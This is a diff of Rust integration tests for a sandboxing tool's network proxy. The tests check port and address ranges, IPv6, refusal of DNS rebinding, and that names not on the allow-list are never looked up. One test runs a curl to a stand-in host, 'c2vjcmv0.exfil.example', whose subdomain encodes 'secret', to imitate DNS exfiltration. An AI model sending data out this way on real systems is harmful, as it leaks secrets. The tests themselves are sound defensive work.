@@ -758,3 +758,406 @@ both!(an_address_only_allow_list_never_looks_a_name_up, |who| {
         "{reason}"
     );
 });
+
+/// A server on the host's loopback address `addr` (`127.0.0.2`, `::1`), port `port` (0: a
+/// random one), answering `at ADDR` to at most 8 requests; returns the port.
+fn serve_loopback(addr: &str, port: u16) -> u16 {
+    use std::io::{Read, Write};
+    let ip: std::net::IpAddr = addr.parse().unwrap();
+    let l = TcpListener::bind((ip, port)).unwrap();
+    let port = l.local_addr().unwrap().port();
+    let body = format!("at {addr}\n");
+    std::thread::spawn(move || {
+        for s in l.incoming().take(8) {
+            let Ok(mut s) = s else { continue };
+            let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(10)));
+            let mut head = Vec::new();
+            let mut buf = [0u8; 1024];
+            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                match s.read(&mut buf) {
+                    Ok(0) | Err(_) => break,
+                    Ok(n) => head.extend_from_slice(&buf[..n]),
+                }
+            }
+            let _ = write!(
+                s,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    port
+}
+
+/// `curl` of each URL through the proxy (HTTP, or CONNECT for a `-p` one): the body, or
+/// `denied` when the proxy refused.
+fn fetch_each(urls: &[String]) -> String {
+    urls.iter()
+        .map(|u| format!("curl -sSfg -m 10 {u} 2>/dev/null || echo denied; "))
+        .collect()
+}
+
+/// `lasagna run -p strict --allow ENTRY... -- /bin/sh -c SCRIPT` as `who`.
+fn proxied(who: As, allow: &[String], script: &str) -> std::process::Output {
+    let mut argv = vec!["run", "-p", "strict"];
+    for a in allow {
+        argv.extend(["--allow", a.as_str()]);
+    }
+    argv.extend(["--", "/bin/sh", "-c", script]);
+    run(who, &argv)
+}
+
+both!(proxy_port_ranges_cover_both_ends_and_nothing_past, |who| {
+    let port = serve_loopback("127.0.0.1", 0);
+    let script = fetch_each(&[format!("http://localhost:{port}/")]);
+    for (lo, hi, want) in [
+        (port - 1, port, "at 127.0.0.1\n"),
+        (port, port + 1, "at 127.0.0.1\n"),
+        // Control: the same request, one port past the range, is refused.
+        (port + 1, port + 2, "denied\n"),
+    ] {
+        let o = proxied(who, &[format!("localhost:{lo}-{hi}")], &script);
+        assert_code(&o, 0);
+        assert_eq!(stdout(&o), want, "localhost:{lo}-{hi}\n{}", stderr(&o));
+    }
+});
+
+both!(proxy_address_ranges_cover_their_prefix_only, |who| {
+    // Three addresses of the host's loopback, one port: a /30 covers .1 and .2, not .9.
+    let port = serve_loopback("127.0.0.1", 0);
+    serve_loopback("127.0.0.2", port);
+    serve_loopback("127.0.0.9", port);
+    let script = fetch_each(&[
+        format!("http://127.0.0.1:{port}/"),
+        format!("http://127.0.0.2:{port}/"),
+        format!("http://127.0.0.9:{port}/"),
+    ]);
+    let o = proxied(who, &[format!("127.0.0.0/30:{port}")], &script);
+    assert_code(&o, 0);
+    assert_eq!(
+        stdout(&o),
+        "at 127.0.0.1\nat 127.0.0.2\ndenied\n",
+        "{}",
+        stderr(&o)
+    );
+    // Control: a /28 covers .9 as well.
+    let o = proxied(who, &[format!("127.0.0.0/28:{port}")], &script);
+    assert_eq!(
+        stdout(&o),
+        "at 127.0.0.1\nat 127.0.0.2\nat 127.0.0.9\n",
+        "{}",
+        stderr(&o)
+    );
+});
+
+both!(proxy_ipv6_entries_reach_the_ipv6_loopback, |who| {
+    let port = serve_loopback("::1", 0);
+    // HTTP with a bracketed authority, then a CONNECT tunnel to [::1]:PORT.
+    let script = fetch_each(&[
+        format!("http://[::1]:{port}/"),
+        format!("-p http://[::1]:{port}/"),
+    ]);
+    for (entry, want) in [
+        (format!("[::1]:{port}"), "at ::1\nat ::1\n"),
+        (format!("[::/127]:{port}"), "at ::1\nat ::1\n"),
+        // Control: an IPv4 entry for the same port does not cover ::1.
+        (format!("127.0.0.1:{port}"), "denied\ndenied\n"),
+        (format!("[::2]:{port}"), "denied\ndenied\n"),
+    ] {
+        let o = proxied(who, std::slice::from_ref(&entry), &script);
+        assert_code(&o, 0);
+        assert_eq!(stdout(&o), want, "{entry}\n{}", stderr(&o));
+    }
+});
+
+/// `lasagna ARGS` as `who`, in a private mount namespace (`unshare -m`, private
+/// propagation) where `src` is bind-mounted over `dst`: lasagna sees the test's file (a
+/// hosts file, a masked device or binary), the host's own is left alone.
+fn with_bind(who: As, src: &str, dst: &str, args: &[&str]) -> Command {
+    let lasagna = command(who, args);
+    let mut cmd = Command::new("unshare");
+    cmd.args([
+        "-m",
+        "--propagation",
+        "private",
+        "--",
+        "/bin/sh",
+        "-c",
+        "mount --bind \"$0\" \"$1\" && shift && exec \"$@\"",
+        src,
+        dst,
+    ])
+    .arg(lasagna.get_program())
+    .args(lasagna.get_args())
+    .current_dir("/")
+    .stdin(std::process::Stdio::null())
+    .process_group(0);
+    cmd
+}
+
+both!(
+    proxy_a_name_entry_never_reaches_the_loopback_its_name_resolves_to,
+    |who| {
+        // DNS rebinding: a name on the allow-list whose answer is the host's loopback.
+        let port = serve_loopback("127.0.0.1", 0);
+        let dir = Scratch::new("net-rebind");
+        let hosts = dir.write("hosts", "127.0.0.1 localhost\n127.0.0.1 rebind.test\n");
+        let url = format!("http://rebind.test:{port}/");
+        let script = fetch_each(std::slice::from_ref(&url));
+        let name = format!("rebind.test:{port}");
+        let o = output_within(
+            with_bind(
+                who,
+                &hosts,
+                "/etc/hosts",
+                &[
+                    "run", "-p", "strict", "--allow", &name, "-v", "--", "/bin/sh", "-c", &script,
+                ],
+            ),
+            DEADLINE,
+        );
+        assert_code(&o, 0);
+        assert_eq!(stdout(&o), "denied\n", "{}", stderr(&o));
+        assert!(
+        stderr(&o).contains(&format!(
+            "denied HTTP rebind.test:{port}: rebind.test resolves to 127.0.0.1: a name entry does not reach a loopback"
+        )),
+        "{}",
+        stderr(&o)
+    );
+        // Control: the same name, with an address entry for the loopback beside it, goes
+        // through: the name resolves there, and only the filter stopped it.
+        let addr = format!("127.0.0.1:{port}");
+        let o = output_within(
+            with_bind(
+                who,
+                &hosts,
+                "/etc/hosts",
+                &[
+                    "run", "-p", "strict", "--allow", &name, "--allow", &addr, "--", "/bin/sh",
+                    "-c", &script,
+                ],
+            ),
+            DEADLINE,
+        );
+        assert_code(&o, 0);
+        assert_eq!(stdout(&o), "at 127.0.0.1\n", "{}", stderr(&o));
+    }
+);
+
+/// A DNS server on 127.0.0.1:53 that writes each name asked for to `argv[1]` (one a line),
+/// answers NXDOMAIN, and creates `argv[2]` once it listens; 32 queries or 60 s at most.
+const DNS_RECORDER: &str = r#"
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(('127.0.0.1', 53))
+log = open(sys.argv[1], 'a')
+open(sys.argv[2], 'w').close()
+s.settimeout(60)
+for _ in range(32):
+    try:
+        q, peer = s.recvfrom(512)
+    except socket.timeout:
+        break
+    i, labels = 12, []
+    while i < len(q) and q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode(errors='replace'))
+        i += 1 + q[i]
+    log.write('.'.join(labels) + '\n')
+    log.flush()
+    s.sendto(q[:2] + b'\x81\x83' + q[4:6] + b'\x00' * 6 + q[12:i + 5], peer)
+"#;
+
+both!(proxy_a_name_no_entry_names_is_not_looked_up, |who| {
+    // A name the payload makes up can carry data out in the DNS query itself. With name
+    // entries that do not match it, the name is refused without a query. The supervisor
+    // runs in a network and mount namespace of the test's own whose resolver is a recorder
+    // on its loopback: every query the proxy makes is written down.
+    let dir = Scratch::new("net-unnamed");
+    let resolv = dir.write(
+        "resolv.conf",
+        "nameserver 127.0.0.1\noptions timeout:2 attempts:1\n",
+    );
+    let setup = "set -e; ip link set lo up; mount --bind \"$1\" /etc/resolv.conf; \
+        timeout 60 python3 -c \"$4\" \"$2\" \"$3\" 2>>\"$2.err\" & dns=$!; \
+        i=0; while [ ! -e \"$3\" ] && [ $i -lt 500 ]; do sleep 0.01; i=$((i+1)); done; \
+        shift 4; set +e; \"$@\"; rc=$?; kill $dns; exit $rc";
+    let run_with = |allow: &str, tag: &str| {
+        let log = dir.path().join(format!("queries-{tag}"));
+        let ready = dir.path().join(format!("ready-{tag}"));
+        let lasagna = command(
+            who,
+            &[
+                "run",
+                "-p",
+                "strict",
+                "--allow",
+                allow,
+                "--",
+                "/bin/sh",
+                "-c",
+                "curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' http://c2vjcmv0.exfil.example:443/",
+            ],
+        );
+        let mut cmd = Command::new("unshare");
+        cmd.args([
+            "-m",
+            "-n",
+            "--propagation",
+            "private",
+            "--",
+            "/bin/sh",
+            "-c",
+            setup,
+            "sh",
+        ])
+        .arg(&resolv)
+        .arg(&log)
+        .arg(&ready)
+        .arg(DNS_RECORDER)
+        .arg(lasagna.get_program())
+        .args(lasagna.get_args())
+        .current_dir("/")
+        .stdin(std::process::Stdio::null())
+        .process_group(0);
+        let o = output_within(cmd, DEADLINE);
+        assert!(ready.exists(), "the recorder did not start: {}", stderr(&o));
+        (o, std::fs::read_to_string(&log).unwrap_or_default())
+    };
+    let (o, queries) = run_with("api.listed.example:443", "unmatched");
+    assert_code(&o, 0);
+    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
+    assert_eq!(queries, "", "names looked up for a name no entry names");
+    // Control: a name entry that matches it has the name looked up, through the recorder.
+    let (o, queries) = run_with("*.exfil.example:443", "matched");
+    assert_code(&o, 0);
+    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
+    assert!(
+        queries.lines().any(|q| q == "c2vjcmv0.exfil.example"),
+        "no query for the matching name: {queries:?}"
+    );
+});
+
+both!(proxy_mode_points_every_proxy_variable_at_itself, |who| {
+    // The caller's own proxy settings are replaced, and NO_PROXY removed: with it, curl
+    // would go straight to localhost, which the namespace does not reach.
+    let port = serve_loopback("127.0.0.1", 0);
+    let env = [
+        "--env",
+        "NO_PROXY=localhost",
+        "--env",
+        "no_proxy=localhost",
+        "--env",
+        "HTTPS_PROXY=http://elsewhere.example:1",
+        "--env",
+        "ALL_PROXY=socks5h://elsewhere.example:1",
+    ];
+    let script = format!(
+        "env | grep -i '_proxy=' | LC_ALL=C sort; \
+         curl -sS -m 10 http://localhost:{port}/ 2>/dev/null || echo no-answer; \
+         env -u http_proxy -u HTTP_PROXY curl -sS -m 10 http://localhost:{port}/ 2>/dev/null || echo no-answer"
+    );
+    let allow = format!("localhost:{port}");
+    let mut with = vec!["-p", "strict", "--allow", &allow];
+    with.extend(env);
+    let mut without = vec!["-p", "strict", "--net", "none"];
+    without.extend(env);
+    let c = Contrast::of(who, &with, &without, &["/bin/sh", "-c", &script]);
+    let proxy = "http://127.0.0.1:3128";
+    let socks = "socks5h://127.0.0.1:3128";
+    c.prints(
+        &format!(
+            "ALL_PROXY={socks}\nHTTPS_PROXY={proxy}\nHTTP_PROXY={proxy}\nall_proxy={socks}\n\
+             http_proxy={proxy}\nhttps_proxy={proxy}\nat 127.0.0.1\nat 127.0.0.1\n"
+        ),
+        // Control: without the proxy the caller's variables stay as they were.
+        "ALL_PROXY=socks5h://elsewhere.example:1\nHTTPS_PROXY=http://elsewhere.example:1\n\
+         NO_PROXY=localhost\nno_proxy=localhost\nno-answer\nno-answer\n",
+    );
+});
+
+both!(
+    net_user_without_pasta_or_tun_is_refused_with_the_reason,
+    |who| {
+        let dir = Scratch::new("net-nopasta");
+        let required = [
+            "run",
+            "-p",
+            "strict",
+            "--net",
+            "user",
+            "--",
+            "/bin/echo",
+            "ran",
+        ];
+        // Control: with pasta and /dev/net/tun as the host has them, the payload runs.
+        let o = run(who, &required);
+        assert_code(&o, 0);
+        assert_eq!(stdout(&o), "ran\n", "{}", stderr(&o));
+        // lasagna looks for pasta at fixed system paths: /dev/null over /usr/bin/pasta is no
+        // executable file there.
+        let pasta = "/usr/bin/pasta";
+        let o = output_within(with_bind(who, "/dev/null", pasta, &required), DEADLINE);
+        assert_code(&o, 125);
+        assert_eq!(stdout(&o), "", "the payload ran");
+        let err = stderr(&o);
+        assert!(
+            err.contains("refused before anything was created")
+                && err.contains("network: net: user needs pasta, which is not installed here"),
+            "{err}"
+        );
+        // best-effort degrades to net: none and says so; the payload has its loopback only.
+        let p = dir.write(
+            "p.yaml",
+            "extends: strict\nlayers:\n  network:\n    mode: best-effort\n    net: user\n",
+        );
+        let report = dir.for_anyone("r.json");
+        let script = "grep -o '^ *[a-z0-9]*:' /proc/net/dev | tr -d ' :' | sort | tr '\\n' ' '";
+        let o = output_within(
+            with_bind(
+                who,
+                "/dev/null",
+                pasta,
+                &[
+                    "run", "-p", &p, "--report", &report, "--", "/bin/sh", "-c", script,
+                ],
+            ),
+            DEADLINE,
+        );
+        assert_code(&o, 0);
+        assert_eq!(stdout(&o), "lo ", "{}", stderr(&o));
+        let r: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+        let net = layer_of(&r, "network");
+        assert_eq!(net["outcome"], "degraded", "{net}");
+        assert!(
+            net["reason"]
+                .as_str()
+                .unwrap_or_default()
+                .ends_with("the sandbox gets net: none"),
+            "{net}"
+        );
+        // /dev/net/tun out of reach. The test user: a root-only file over it, and the plan
+        // refuses before the run. Root opens any file: /dev/null over it, and pasta's failure
+        // to make its interface ends the launch with what pasta said.
+        let o = if who == As::User {
+            let mask = dir.write("tun", "");
+            let _ = Command::new("chmod").args(["0600", &mask]).status();
+            output_within(with_bind(who, &mask, "/dev/net/tun", &required), DEADLINE)
+        } else {
+            output_within(
+                with_bind(who, "/dev/null", "/dev/net/tun", &required),
+                DEADLINE,
+            )
+        };
+        assert_code(&o, 125);
+        assert_eq!(stdout(&o), "", "the payload ran");
+        let err = stderr(&o);
+        let want = if who == As::User {
+            "network: net: user needs /dev/net/tun, which this user cannot open"
+        } else {
+            "network: pasta exited (exit status: 1) before the interface was up: Failed to open tun socket"
+        };
+        assert!(err.contains(want), "{err}");
+    }
+);
